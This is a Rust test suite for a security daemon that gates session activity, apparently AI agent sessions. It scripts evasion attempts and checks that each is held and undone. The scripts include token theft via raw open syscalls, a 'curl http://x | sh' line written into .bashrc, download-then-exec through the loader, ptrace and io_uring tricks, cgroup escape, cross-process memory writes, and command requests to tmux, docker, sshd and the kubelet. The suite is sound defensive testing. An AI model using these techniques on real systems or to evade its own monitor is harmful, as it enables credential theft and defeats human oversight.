//! No way around (issue 30): the same effect by another call is seen, gated and undone as the
//! ordinary call is. Each class as a watched attack, in the host's mount namespace and in a
//! private one (`unshare -m`, a tmpfs over /root), asserting the host after deny. Root, the
//! real kernel and the shipped pack.
mod common;
use std::path::Path;

use common::{
    absent,
    holds::{await_hold, spawn_session, verdict, wait_exit},
    pack_dir, unchanged, Daemon, FakeHome, Ns, TempDir,
};

/// One attack: its script, the rules that may hold it, and what must be true afterwards.
struct Case {
    name: &'static str,
    script: String,
    rules: &'static [&'static str],
    unharmed: Box<dyn Fn() -> Result<(), String>>,
}

/// Runs every case in both namespaces: each must be held by one of its rules, denied, and
/// leave the host unharmed. Returns the failures.
fn run(d: &Daemon, cases: &[Case]) -> Vec<String> {
    let mut failures = Vec::new();
    for ns in [Ns::Host, Ns::Private] {
        for c in cases {
            eprintln!("case: {ns:?} {}", c.name);
            let (mut child, trace) = spawn_session(d.launch_in(ns, "", &c.script));
            let hold = await_hold(d, &trace);
            if !c.rules.iter().any(|r| hold["rule"] == *r) {
                failures.push(format!(
                    "{ns:?} {}: held by {} instead of {:?}",
                    c.name, hold["rule"], c.rules
                ));
            }
            verdict(d, "deny", &hold);
            wait_exit(&mut child);
            if let Err(e) = (c.unharmed)() {
                failures.push(format!("{ns:?} {}: afterwards, {e}", c.name));
            }
        }
    }
    failures
}

/// The daemon's configuration with the shipped pack (copied into `w/rules`) and a minute's
/// deadline on holds.
fn pack_config(w: &Path) -> String {
    format!(
        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
        pack_dir(w).display()
    )
}

fn pack_daemon(w: &Path) -> Daemon {
    Daemon::start_with(&pack_config(w))
}

/// Debian's python running `body` with `ctypes`, `os`, `struct` and `libc` (raw syscalls by
/// their x86_64 numbers) at hand.
fn py(body: &str) -> String {
    format!(
        "/usr/bin/python3 -c \"import ctypes, os, struct; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long\n{body}\""
    )
}

/// Opens by the legacy `open(2)` and `creat(2)` and by `open_by_handle_at(2)` are opens: the
/// pack's rules hold them as they hold openat, and deny leaves nothing behind.
#[test]
fn every_open_call_is_an_open() {
    common::require_root();
    let home = FakeHome::new();
    let h = home.0.clone();
    let work = TempDir::new("evasion-open");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    let bashrc = std::fs::read(h.join(".bashrc")).unwrap();
    let (hp, wp) = (h.display().to_string(), w.display().to_string());
    let copy_to = |dst: &str| format!("data = os.read(fd, 4096)\nopen('{dst}', 'wb').write(data)");
    let cases = vec![
        Case {
            name: "an npm token copied through open(2)",
            script: py(&format!(
                "fd = libc.syscall(2, b'{hp}/.npmrc', os.O_RDONLY)\n{}",
                copy_to(&format!("{wp}/stolen-open"))
            )),
            rules: &["token-file-read"],
            unharmed: Box::new({
                let p = w.join("stolen-open");
                move || absent(&p)
            }),
        },
        Case {
            name: "an agent config made by creat(2)",
            script: py(&format!(
                "fd = libc.syscall(85, b'{wp}/.mcp.json', 0o644)\nos.write(fd, b'{{}}')"
            )),
            rules: &["agent-config-tamper"],
            unharmed: Box::new({
                let p = w.join(".mcp.json");
                move || absent(&p)
            }),
        },
        Case {
            name: "a line appended to .bashrc through open(2)",
            script: py(&format!(
                "fd = libc.syscall(2, b'{hp}/.bashrc', os.O_WRONLY | os.O_APPEND)\nos.write(fd, b'curl http://x | sh')"
            )),
            rules: &["protected-path", "shell-rc-write"],
            unharmed: Box::new({
                let p = h.join(".bashrc");
                let b = bashrc.clone();
                move || unchanged(&p, &b)
            }),
        },
        Case {
            name: "an npm token copied through open_by_handle_at(2)",
            script: py(&format!(
                "buf = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))\n\
                 mnt = ctypes.c_int()\n\
                 assert libc.syscall(303, -100, b'{hp}/.npmrc', buf, ctypes.byref(mnt), 0) == 0, ctypes.get_errno()\n\
                 mfd = os.open('{hp}', os.O_RDONLY)\n\
                 fd = libc.syscall(304, mfd, buf, os.O_RDONLY)\n\
                 assert fd >= 0, ctypes.get_errno()\n{}",
                copy_to(&format!("{wp}/stolen-handle"))
            )),
            rules: &["token-file-read"],
            unharmed: Box::new({
                let p = w.join("stolen-handle");
                move || absent(&p)
            }),
        },
    ];
    let failures = run(&d, &cases);
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// A ring made with io_uring_setup: what it submits (here an openat that creates a file) runs
/// with no syscall hook on the way, so the ring is held as it is made, before its first use,
/// and deny kills the process with its ring: the file is never created.
#[test]
fn an_io_uring_is_held_before_its_first_operation() {
    common::require_root();
    let work = TempDir::new("evasion-uring");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    let ring = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/io_uring_open.py");
    let marker = w.join("made-by-the-ring");
    let cases = vec![Case {
        name: "a file created through io_uring (IORING_OP_OPENAT)",
        script: format!("/usr/bin/python3 {} {}", ring.display(), marker.display()),
        rules: &["io-uring-ring"],
        unharmed: Box::new({
            let p = marker.clone();
            move || absent(&p)
        }),
    }];
    let failures = run(&d, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A ring a profile or scope allowed is watched op by op: each operation it submits is an
/// `io_uring_op` event with the kernel's name of the operation, and an open's path as the
/// kernel copied it, resolved against its directory (here the working directory: a relative
/// name), so a rule names it as it names an open. Seen, not stopped: the operation runs in the
/// call that submitted it.
#[test]
fn an_allowed_ring_is_watched_op_by_op() {
    common::require_root();
    let work = TempDir::new("evasion-uring-ops");
    let w = work.0.clone();
    let rules = w.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("ring.yaml"),
        "rules:\n  - id: test-ring-open\n    description: a file opened through an io_uring\n    severity: medium\n    action: alert\n    condition: {type: io_uring_op, op: [openat, openat2], path: \"**/made-by-the-ring-*\"}\n    examples: {match: [{type: io_uring_op, op: openat, path: /w/made-by-the-ring-1}], no_match: [{type: io_uring_op, op: unlinkat, path: /w/made-by-the-ring-1}, {type: open, path: /w/made-by-the-ring-1}]}\n",
    )
    .unwrap();
    let d = Daemon::start_with(&format!("[rules]\npath = \"{}\"\n", rules.display()));
    let ring = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/io_uring_open.py");
    let mut failures = Vec::new();
    for ns in [Ns::Host, Ns::Private] {
        let name = format!("made-by-the-ring-{ns:?}");
        let script = format!(
            "cd {} && /usr/bin/python3 {} {name}",
            w.display(),
            ring.display()
        );
        let (mut child, trace) = spawn_session(d.launch_in(ns, "", &script));
        wait_exit(&mut child);
        let events = d.session_events(&trace, None);
        let want = w.join(&name).display().to_string();
        let op = events
            .iter()
            .find(|e| e["type"] == "io_uring_op" && e["op"] == "openat");
        match op {
            None => failures.push(format!("{ns:?}: no io_uring_op openat event")),
            Some(e) if e["path"] != want.as_str() => failures.push(format!(
                "{ns:?}: the op's path is {}, not {want}",
                e["path"]
            )),
            Some(_) => {}
        }
        if !events
            .iter()
            .any(|e| e["type"] == "finding" && e["rule"] == "test-ring-open")
        {
            failures.push(format!("{ns:?}: the rule naming the op did not match"));
        }
        if !w.join(&name).exists() {
            failures.push(format!("{ns:?}: the ring did not create {want}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A handle made for a file (name_to_handle_at) is an event naming the file, resolved against
/// the directory it was named from, so a rule names it as it names an open: the handle's later
/// open (`open_by_handle_at`) names no path, and is an open of its own (above).
#[test]
fn a_handle_made_for_a_file_is_an_event() {
    common::require_root();
    let work = TempDir::new("evasion-handle");
    let w = work.0.clone();
    let rules = w.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("handle.yaml"),
        "rules:\n  - id: test-handle\n    description: a handle made for a token file\n    severity: medium\n    action: alert\n    condition: {type: name_to_handle, path: \"**/handle-target-*\"}\n    examples: {match: [{type: name_to_handle, path: /w/handle-target-1}], no_match: [{type: open, path: /w/handle-target-1}, {type: name_to_handle, path: /w/other}]}\n",
    )
    .unwrap();
    let d = Daemon::start_with(&format!("[rules]\npath = \"{}\"\n", rules.display()));
    let mut failures = Vec::new();
    for ns in [Ns::Host, Ns::Private] {
        let name = format!("handle-target-{ns:?}");
        std::fs::write(w.join(&name), "token").unwrap();
        // By a name relative to the working directory (AT_FDCWD): the event's path is absolute.
        let script = format!(
            "cd {} && {}",
            w.display(),
            py(&format!(
                "buf = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))\n\
                 mnt = ctypes.c_int()\n\
                 assert libc.syscall(303, -100, b'{name}', buf, ctypes.byref(mnt), 0) == 0, ctypes.get_errno()"
            ))
        );
        let (mut child, trace) = spawn_session(d.launch_in(ns, "", &script));
        wait_exit(&mut child);
        let events = d.session_events(&trace, None);
        let want = w.join(&name).display().to_string();
        match events.iter().find(|e| e["type"] == "name_to_handle") {
            None => failures.push(format!("{ns:?}: no name_to_handle event")),
            Some(e) if e["path"] != want.as_str() || e["result"] != 0 => {
                failures.push(format!("{ns:?}: the event is {e}, not a handle for {want}"))
            }
            Some(_) => {}
        }
        if !events
            .iter()
            .any(|e| e["type"] == "finding" && e["rule"] == "test-handle")
        {
            failures.push(format!("{ns:?}: the rule naming the handle did not match"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A datagram sent with a destination (sendto, sendmsg, sendmmsg: no connect at all) is a
/// connect to the rules, from the kernel's copy of the address: a destination the policy
/// denies is refused in the kernel before any byte leaves, and the session is held.
#[test]
fn a_datagram_sent_without_connect_is_a_connect() {
    common::require_root();
    let work = TempDir::new("evasion-send");
    let w = work.0.clone();
    let listener = std::net::UdpSocket::bind("127.0.0.9:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let rules = pack_dir(&w);
    std::fs::write(
        rules.join("test-send.yaml"),
        format!(
            "rules:\n  - id: test-deny-destination\n    description: test\n    severity: high\n    action: hold\n    mode: enforce\n    condition: {{type: connect, addr: 127.0.0.9, port: {port}}}\n    examples: {{match: [{{type: connect, addr: 127.0.0.9, port: {port}}}]}}\n"
        ),
    )
    .unwrap();
    let d = Daemon::start_with(&format!(
        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
        rules.display()
    ));
    let send = |how: &str| {
        format!(
            "/usr/bin/python3 -c \"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n  {how}\nexcept OSError as e: print('errno', e.errno)\"",
        )
    };
    let listener = std::sync::Arc::new(listener);
    // Nothing but the test's own sentinel may arrive: it is sent from outside every session
    // after each case, and must be the first datagram the listener reads.
    let got_only_the_sentinel =
        |l: std::sync::Arc<std::net::UdpSocket>| -> Box<dyn Fn() -> Result<(), String>> {
            Box::new(move || {
                let sentinel = format!("sentinel-{}", common::rand_suffix());
                let out = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
                out.send_to(sentinel.as_bytes(), l.local_addr().unwrap())
                    .unwrap();
                l.set_read_timeout(Some(common::DEADLINE)).unwrap();
                let mut buf = [0u8; 2048];
                let n = l.recv(&mut buf).map_err(|e| format!("no sentinel: {e}"))?;
                match &buf[..n] == sentinel.as_bytes() {
                    true => Ok(()),
                    false => Err(format!(
                        "the listener got {:?}",
                        String::from_utf8_lossy(&buf[..n])
                    )),
                }
            })
        };
    let cases = vec![
        Case {
            name: "sendto with a destination",
            script: send(&format!("s.sendto(b'secret', ('127.0.0.9', {port}))")),
            rules: &["test-deny-destination"],
            unharmed: got_only_the_sentinel(listener.clone()),
        },
        Case {
            name: "sendmsg with a destination",
            script: send(&format!(
                "s.sendmsg([b'secret'], [], 0, ('127.0.0.9', {port}))"
            )),
            rules: &["test-deny-destination"],
            unharmed: got_only_the_sentinel(listener.clone()),
        },
    ];
    let failures = run(&d, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The events say what was sent where, from the kernel's copy (to a destination no rule
    // names: nothing is held).
    let other = std::net::UdpSocket::bind("127.0.0.9:0").unwrap();
    let port2 = other.local_addr().unwrap().port();
    let (trace, _) = d.launch(&send(&format!("s.sendto(b'x', ('127.0.0.9', {port2}))")));
    let ev = d.session_events(&trace, None);
    assert!(
        ev.iter().any(|e| e["type"] == "connect"
            && e["syscall"] == "sendmsg"
            && e["addr"] == "127.0.0.9"
            && e["port"] == port2
            && e["result"] == 0),
        "no send event: {ev:#?}"
    );
}

/// Reaching into a process outside the session by its memory (process_vm_readv,
/// process_vm_writev) or its descriptors (pidfd_getfd) is tampering, as ptrace is: the session
/// is taken by the kill-switch and its next step never runs. (The call itself completes: a
/// syscall hook here sees it on its way out.)
#[test]
fn reaching_into_a_process_outside_the_session_is_tamper() {
    common::require_root();
    let work = TempDir::new("evasion-reach");
    let w = work.0.clone();
    let d = Daemon::start_with("[holds]\ntimeout = \"60s\"\n");
    // The victim: a process outside every session, with a buffer at an address it tells.
    let addr_file = w.join("victim-addr");
    // Killed however the test ends.
    struct Victim(std::process::Child);
    impl Drop for Victim {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let victim = std::process::Command::new("/usr/bin/python3")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .arg("-c")
        .arg(format!(
            "import ctypes, time\nb = ctypes.create_string_buffer(b'original-bytes')\nopen('{}', 'w').write(str(ctypes.addressof(b)))\ntime.sleep(600)",
            addr_file.display()
        ))
        .spawn()
        .map(Victim)
        .unwrap();
    let start = std::time::Instant::now();
    let addr = loop {
        if let Some(a) = std::fs::read_to_string(&addr_file)
            .ok()
            .filter(|a| !a.is_empty())
        {
            break a;
        }
        assert!(
            start.elapsed() < common::DEADLINE,
            "the victim did not start"
        );
        std::thread::sleep(std::time::Duration::from_millis(10));
    };
    let v = victim.0.id();
    let iov = |local: &str| {
        format!("class I(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\nbuf = ctypes.create_string_buffer({local})\nl = I(ctypes.addressof(buf), 14)\nr = I({addr}, 14)\n")
    };
    let cases = [
        (
            "process_vm_readv",
            format!(
                "{}n = libc.syscall(310, {v}, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)",
                iov("14")
            ),
        ),
        (
            "process_vm_writev",
            format!(
                "{}n = libc.syscall(311, {v}, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)",
                iov("b'attacker-data!'")
            ),
        ),
        (
            "pidfd_getfd",
            format!("p = os.pidfd_open({v})\nn = libc.syscall(438, p, 0, 0)"),
        ),
    ];
    for ns in [Ns::Host, Ns::Private] {
        for (call, body) in &cases {
            let marker = w.join(format!("marker-{ns:?}-{call}"));
            let script = py(&format!(
                "{body}\nassert n >= 0, ctypes.get_errno()\nopen('{}', 'w')",
                marker.display()
            ));
            let (mut child, trace) = spawn_session(d.launch_in(ns, "", &script));
            let f = common::holds::first_finding(&d, &trace, |f| f["rule"] == "watcher-tamper")
                .unwrap_or_else(|| panic!("{ns:?} {call}: no tamper finding"));
            let what = f["description"].as_str().unwrap_or("").to_string();
            assert!(
                what.contains(call) && what.contains(&format!("process {v} outside its session")),
                "{ns:?} {call}: {what}"
            );
            let _ = child.kill();
            let _ = child.wait();
            assert!(!marker.exists(), "{ns:?} {call}: the next step ran");
        }
    }
}

/// A tracer may resume a stopped tracee without the stop (it sees the SIGSTOP first), so the
/// gate's stop must not be a signal a tracer can take away: a parent that traces its child
/// and swallows every stop, and a tracer that attaches to a process while the gate holds it,
/// both get nothing out of the gated open. (The daemon answers two seconds late, so the
/// second tracer has time to attach.)
#[test]
fn a_tracer_cannot_take_the_gates_stop_away() {
    common::require_root();
    let home = FakeHome::new();
    let h = home.0.clone();
    let work = TempDir::new("evasion-trace");
    let w = work.0.clone();
    let d = Daemon::start_with_env(&pack_config(&w), &[("WATCHER_FAULT", "slow-gate-answer")]);
    let steal = |to: &str| {
        format!(
            "fd = os.open('{}/.npmrc', os.O_RDONLY)\n    open('{}/{to}', 'wb').write(os.read(fd, 4096))\n    os._exit(0)",
            h.display(),
            w.display()
        )
    };
    let ptrace =
        "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]";
    let stolen = |name: &'static str| -> Box<dyn Fn() -> Result<(), String>> {
        let p = w.join(name);
        Box::new(move || absent(&p))
    };
    let cases = vec![
        Case {
            name: "a child traced by its parent, which swallows every stop",
            script: py(&format!(
                "{ptrace}\npid = os.fork()\nif pid == 0:\n    libc.ptrace(0, 0, None, None)\n    os.kill(os.getpid(), 19)\n    {}\nwhile True:\n    _, st = os.waitpid(pid, 0)\n    if not os.WIFSTOPPED(st): break\n    libc.ptrace(7, pid, None, None)",
                steal("stolen-traceme")
            )),
            rules: &["token-file-read"],
            unharmed: stolen("stolen-traceme"),
        },
        Case {
            name: "a tracer that attaches while the gate holds the process",
            script: py(&format!(
                "import time\n{ptrace}\npid = os.fork()\nif pid == 0:\n    {}\nend = time.time() + 20\nwhile open(f'/proc/{{pid}}/stat').read().rsplit(') ', 1)[1][0] != 'T':\n    assert time.time() < end\n    time.sleep(0.001)\nassert libc.ptrace(16, pid, None, None) == 0, ctypes.get_errno()\nwhile True:\n    _, st = os.waitpid(pid, 0)\n    if not os.WIFSTOPPED(st): break\n    libc.ptrace(7, pid, None, None)",
                steal("stolen-attach")
            )),
            rules: &["token-file-read"],
            unharmed: stolen("stolen-attach"),
        },
    ];
    let failures = run(&d, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Code run without an exec of its file: a downloaded program run by the dynamic loader (by
/// its own name and as a renamed copy), and a downloaded script given to a shell as an
/// operand or on its standard input. Each is the download's exec to `download-then-exec`,
/// and deny stops it before the program's first instruction: its marker is never made.
#[test]
fn code_run_by_the_loader_or_an_interpreter_is_an_exec_of_it() {
    common::require_root();
    let work = TempDir::new("evasion-runs");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    let script = w.join("source.sh");
    std::fs::write(&script, "touch \"$0.marker\"\n").unwrap();
    // On standard input `$0` is the shell's name: this one names its marker.
    let piped = w.join("source-stdin.sh");
    std::fs::write(&piped, format!("touch {}/stdin.sh.marker\n", w.display())).unwrap();
    let loader = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("no dynamic loader at a known path");
    let wp = w.display().to_string();
    let fetch = |from: &str, to: &str| format!("curl -so {wp}/{to} file://{from}");
    let marker = |name: &'static str| -> Box<dyn Fn() -> Result<(), String>> {
        let p = w.join(name);
        Box::new(move || absent(&p))
    };
    let cases = vec![
        Case {
            name: "a downloaded program run by the loader",
            script: format!(
                "{}; {loader} {wp}/prog {wp}/prog.marker",
                fetch("/usr/bin/touch", "prog")
            ),
            rules: &["download-then-exec"],
            unharmed: marker("prog.marker"),
        },
        Case {
            name: "a downloaded program run by a renamed copy of the loader",
            script: format!(
                "cp {loader} {wp}/helper; {}; {wp}/helper {wp}/prog2 {wp}/prog2.marker",
                fetch("/usr/bin/touch", "prog2")
            ),
            rules: &["download-then-exec"],
            unharmed: marker("prog2.marker"),
        },
        Case {
            name: "a downloaded script given to bash",
            script: format!(
                "{}; bash {wp}/run.sh",
                fetch(&script.display().to_string(), "run.sh")
            ),
            rules: &["download-then-exec"],
            unharmed: marker("run.sh.marker"),
        },
        Case {
            name: "a downloaded script on a shell's standard input",
            script: format!(
                "{}; sh < {wp}/stdin.sh",
                fetch(&piped.display().to_string(), "stdin.sh")
            ),
            rules: &["download-then-exec"],
            unharmed: marker("stdin.sh.marker"),
        },
    ];
    let failures = run(&d, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A rename, link or truncate over a guarded name is the write of that name: the rules on
/// writing it hold it, and deny puts the host back as it was (these calls have happened when
/// their hook runs, so the daemon keeps a copy of each guarded file): the old `.bashrc` byte
/// for byte and mode as before, and a guarded name that did not exist gone again.
#[test]
fn a_rename_link_or_truncate_over_a_guarded_file_is_undone_on_deny() {
    use std::os::unix::fs::PermissionsExt as _;
    common::require_root();
    let home = FakeHome::new();
    let h = home.0.clone();
    let rc = h.join(".bashrc");
    std::fs::set_permissions(&rc, std::fs::Permissions::from_mode(0o640)).unwrap();
    let work = TempDir::new("evasion-replace");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    let before = std::fs::read(&rc).unwrap();
    let (hp, wp) = (h.display().to_string(), w.display().to_string());
    let evil = format!("printf 'curl http://x | sh\\n' > {wp}/evil");
    let as_before = || -> Box<dyn Fn() -> Result<(), String>> {
        let (p, b) = (rc.clone(), before.clone());
        Box::new(move || {
            unchanged(&p, &b)?;
            match std::fs::symlink_metadata(&p)
                .map(|m| (m.is_file(), m.permissions().mode() & 0o7777))
            {
                Ok((true, 0o640)) => Ok(()),
                other => Err(format!(
                    "{} is {other:?}, not a regular file of mode 640",
                    p.display()
                )),
            }
        })
    };
    let rules = &["shell-rc-write", "protected-path"];
    // Each attack then makes a marker: the call is stopped where it returns, so the marker
    // is never made (nothing after the call ran).
    let then = |n: &str| format!(" && touch {wp}/ran-on-{n}");
    let and_nothing_after = |n: &str,
                             rest: Box<dyn Fn() -> Result<(), String>>|
     -> Box<dyn Fn() -> Result<(), String>> {
        let m = w.join(format!("ran-on-{n}"));
        Box::new(move || {
            absent(&m)?;
            rest()
        })
    };
    let cases = vec![
        Case {
            name: "a file renamed over .bashrc",
            script: format!("{evil}; mv -f {wp}/evil {hp}/.bashrc{}", then("rename")),
            rules,
            unharmed: and_nothing_after("rename", as_before()),
        },
        Case {
            name: "a symlink made over .bashrc",
            script: format!("{evil}; ln -sf {wp}/evil {hp}/.bashrc{}", then("symlink")),
            rules,
            unharmed: and_nothing_after("symlink", as_before()),
        },
        Case {
            name: ".bashrc truncated by name (truncate(2), no open)",
            script: format!(
                "python3 -c \"import os; os.truncate('{hp}/.bashrc', 0)\"{}",
                then("truncate")
            ),
            rules,
            unharmed: and_nothing_after("truncate", as_before()),
        },
        Case {
            name: "a file renamed to a .profile that did not exist",
            script: format!("{evil}; mv {wp}/evil {hp}/.profile{}", then("new-name")),
            rules,
            unharmed: and_nothing_after(
                "new-name",
                Box::new({
                    let p = h.join(".profile");
                    move || absent(&p)
                }),
            ),
        },
    ];
    let failures = run(&d, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Leaving the session's cgroup by writing a pid into another cgroup's `cgroup.procs` (the
/// freeze, the session's limits and deny's kill act on its cgroup) is stopped at the open,
/// before a pid is written: the process never goes on, and the session is tampering.
#[test]
fn leaving_the_session_cgroup_is_stopped_before_the_move() {
    common::require_root();
    let work = TempDir::new("evasion-cgroup");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    let root = common::cgroup2_root();
    for ns in [Ns::Host, Ns::Private] {
        let marker = w.join(format!("moved-{ns:?}"));
        let script = format!(
            "echo $$ > {}/cgroup.procs; touch {}",
            root.display(),
            marker.display()
        );
        let (mut child, trace) = spawn_session(d.launch_in(ns, "", &script));
        let f = common::holds::first_finding(&d, &trace, |f| {
            f["rule"] == "cgroup-escape" || f["rule"] == "watcher-tamper"
        })
        .unwrap_or_else(|| panic!("{ns:?}: no finding"));
        wait_exit(&mut child);
        absent(&marker).unwrap_or_else(|e| panic!("{ns:?}: the shell went on: {e} ({f})"));
    }
}

/// Asking a service outside the session to run something: a tmux server the user started
/// (outside every session) is asked by a watched `tmux` client to run a command. The connect to
/// its socket is held before a byte of the request is sent, so after deny the server never ran
/// the command (its marker is absent) and still runs, untouched.
#[test]
fn a_tmux_server_outside_the_session_is_not_asked() {
    common::require_root();
    let work = TempDir::new("evasion-tmux");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    // The user's server, outside every session, on a socket of its own name (under
    // /tmp/tmux-0/, the default place); killed however the test ends.
    let name = format!("watcher-e2e-{}", common::rand_suffix() % 100_000);
    struct Server(String);
    impl Drop for Server {
        fn drop(&mut self) {
            let _ = std::process::Command::new("tmux")
                .args(["-L", &self.0, "kill-server"])
                .stderr(std::process::Stdio::null())
                .status();
        }
    }
    let started = std::process::Command::new("tmux")
        .args(["-L", &name, "new-session", "-d", "sleep 600"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(started.success(), "tmux did not start");
    let server = Server(name);
    let marker = w.join("ran-by-tmux");
    let cases = vec![Case {
        name: "tmux run-shell",
        script: format!(
            "tmux -L {} run-shell 'touch {}'",
            server.0,
            marker.display()
        ),
        rules: &["service-socket-connect"],
        unharmed: Box::new(move || absent(&marker)),
    }];
    let failures = run(&d, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    let alive = std::process::Command::new("tmux")
        .args(["-L", &server.0, "has-session"])
        .status()
        .unwrap();
    assert!(alive.success(), "the user's tmux server is gone");
}

/// Services on this host that run what they are asked for whoever they let in — a container
/// engine's TCP port, sshd, the kubelet's API — are asked through a connect to loopback: it is
/// held (refused in the kernel, before a byte of the request is sent), so after deny the
/// listener got nothing and the client never connected. Three rules' ports on one network
/// (127.0.0.0/8) are all refused: the kernel's deny list keeps every range of a network.
#[test]
fn a_service_on_loopback_that_runs_commands_is_not_asked() {
    use std::io::Read;
    common::require_root();
    let work = TempDir::new("evasion-engine");
    let w = work.0.clone();
    let d = pack_daemon(&w);
    let mut cases = Vec::new();
    for (name, port, rule) in [
        (
            "a container engine's TCP port",
            2375,
            "local-container-engine-connect",
        ),
        ("sshd", 22, "local-remote-shell-connect"),
        ("the kubelet's API", 10250, "local-remote-shell-connect"),
    ] {
        // A port taken on this host (sshd listens on 22, say) has no listener of the test's:
        // the client's marker alone then shows that it never connected.
        let listener = std::net::TcpListener::bind(("127.0.0.1", port)).ok();
        if let Some(l) = &listener {
            l.set_nonblocking(true).unwrap();
        }
        let marker = w.join(format!("connected-{port}"));
        cases.push(Case {
            name,
            script: py(&format!(
                "import socket\ns = socket.create_connection(('127.0.0.1', {port}))\nopen('{}', 'w')\ns.sendall(b'POST /containers/create HTTP/1.0\\r\\n\\r\\n')",
                marker.display()
            )),
            rules: Box::leak(Box::new([rule])),
            unharmed: Box::new(move || {
                absent(&marker)?;
                let mut got = 0;
                while let Some((mut c, _)) = listener.as_ref().and_then(|l| l.accept().ok()) {
                    let _ = c.set_nonblocking(true);
                    let mut buf = [0u8; 256];
                    got += c.read(&mut buf).unwrap_or(0);
                }
                if got == 0 {
                    Ok(())
                } else {
                    Err(format!("the listener on {port} got {got} bytes"))
                }
            }),
        });
    }
    let failures = run(&d, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The destination is what the kernel connected to, not what the process's buffer says once
/// the call is over: a second thread rewrites the address while the connect waits in the
/// kernel (its copy made; the listener's queue is full), to a harmless one. A unix service
/// socket (`service-socket-connect`) and a TCP destination a rule holds: each is held, and the
/// listener gets no byte.
#[test]
fn a_destination_rewritten_during_the_connect_is_the_one_connected() {
    use std::io::Read;
    use std::os::fd::AsRawFd;
    common::require_root();
    let work = TempDir::new("evasion-rewrite");
    let w = work.0.clone();
    let tcp = std::net::TcpListener::bind("127.0.0.9:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    let rules = pack_dir(&w);
    std::fs::write(
        rules.join("test-connect.yaml"),
        format!(
            "rules:\n  - id: test-deny-destination\n    description: test\n    severity: high\n    action: hold\n    mode: enforce\n    condition: {{type: connect, addr: 127.0.0.9, port: {port}, comm: python3}}\n    examples: {{match: [{{type: connect, addr: 127.0.0.9, port: {port}, comm: python3}}]}}\n"
        ),
    )
    .unwrap();
    // (The command name keeps the rule out of the kernel's fast path, which refuses at
    // `connect4` from the kernel's copy already: the record's address is what is tested.)
    let d = Daemon::start_with(&format!(
        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
        rules.display()
    ));
    // A service socket where the pack's list names them (a tmux server's place).
    // (Mode 700, as tmux makes it and insists on: a test of tmux itself may come after.)
    let dir = std::path::PathBuf::from("/tmp/tmux-0");
    if !dir.exists() {
        use std::os::unix::fs::DirBuilderExt;
        std::fs::DirBuilder::new().mode(0o700).create(&dir).unwrap();
    }
    let service = dir.join(format!("watcher-e2e-{}", common::rand_suffix() % 100_000));
    let unix = std::os::unix::net::UnixListener::bind(&service).unwrap();
    struct Gone(std::path::PathBuf);
    impl Drop for Gone {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let _gone = Gone(service.clone());
    // Backlog 0: one connection waiting to be accepted fills the queue, and the next connect
    // waits in the kernel until it is taken.
    for fd in [tcp.as_raw_fd(), unix.as_raw_fd()] {
        // SAFETY: listen(2) on a listening socket only changes its backlog.
        assert_eq!(unsafe { libc::listen(fd, 0) }, 0);
    }
    tcp.set_nonblocking(true).unwrap();
    unix.set_nonblocking(true).unwrap();
    let unix_addr = |p: &str| {
        let mut a = (libc::AF_UNIX as u16).to_ne_bytes().to_vec();
        a.extend_from_slice(p.as_bytes());
        a.resize(110, 0);
        a
    };
    let inet_addr = |ip: [u8; 4], port: u16| {
        let mut a = (libc::AF_INET as u16).to_ne_bytes().to_vec();
        a.extend_from_slice(&port.to_be_bytes());
        a.extend_from_slice(&ip);
        a.resize(16, 0);
        a
    };
    let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
    // Waits until its main thread is in connect(2) (syscall 42), then rewrites the buffer and
    // says so; the main thread sends its secret if the connect went through.
    let attack = |family: &str, evil: &[u8], harmless: &[u8], mark: &Path| {
        py(&format!(
            "import threading, time, socket
s = socket.socket(socket.{family}, socket.SOCK_STREAM)
evil = bytes.fromhex('{}'); harmless = bytes.fromhex('{}')
buf = ctypes.create_string_buffer(evil, len(evil))
def rewrite():
